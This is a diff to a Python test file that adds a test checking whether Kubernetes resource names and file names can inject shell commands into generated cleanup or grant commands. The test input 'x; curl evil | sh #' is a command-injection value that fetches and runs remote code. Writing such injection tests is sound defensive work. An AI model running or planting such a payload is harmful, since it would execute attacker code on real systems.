@@ -1,5 +1,6 @@
 """What is to be done, in which order, and what is left out because it is done."""
 
+import shlex
 from dataclasses import replace
 
 import pytest
@@ -135,3 +136,14 @@ def test_the_step_of_grants_names_what_it_makes():
         "the RoleBinding kikkake-team, the Role kikkake-builder in ci, the ClusterRole kikkake-ci-builder"
         in why
     )
+
+
+def test_names_from_files_cannot_break_out_of_the_commands():
+    evil = "x; curl evil | sh #"
+    value = document(spec=SERVICE, finalizers=["eventsource-controller", "it's"]).value
+    metadata = {**value["metadata"], "namespace": evil, "name": evil}
+    inventory = from_documents([ResourceDocument({**value, "metadata": metadata}, "", {})])
+    found = steps_of(inventory, inventory.namespaces[0], [GRANT], files=[evil])
+    words = [shlex.split(command) for step in found for command in step.commands]
+    assert sum(evil in each for each in words) >= 8
+    assert not any("curl" in each for each in words)
